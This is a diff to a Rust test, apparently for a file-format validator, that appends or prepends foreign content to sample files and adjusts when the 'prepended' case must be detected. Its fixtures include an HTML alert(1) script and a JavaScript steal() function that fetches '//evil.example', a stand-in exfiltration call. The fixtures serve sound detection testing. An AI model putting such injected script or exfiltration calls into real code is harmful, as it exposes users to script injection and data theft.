@@ -133,16 +133,6 @@ fn additions(run: &mut Run, sample: &Sample) {
     let archive = samples_zip();
     let html = b"<html><script>alert(1)</script></html>\n";
     let script = b"function steal() { fetch('//evil.example') }\n";
-    let text_format = matches!(
-        sample.format,
-        Format::Text
-            | Format::Srt
-            | Format::WebVtt
-            | Format::Csv
-            | Format::Json
-            | Format::Xml
-            | Format::Svg
-    );
     for (what, added) in [
         ("ZIP", archive.as_slice()),
         ("HTML", html),
@@ -164,7 +154,8 @@ fn additions(run: &mut Run, sample: &Sample) {
         let must = !(open_end || wide || sum_stays || (one_field && what == "script"));
         run.case(sample, "appended", &behind, must, what);
         let before = [added, &sample.bytes].concat();
-        let must = !(text_format && is_text && sample.format == Format::Text) && !wide;
+        let more_text = is_text && sample.format == Format::Text;
+        let must = !(wide || more_text);
         run.case(sample, "prepended", &before, must, what);
     }
 }
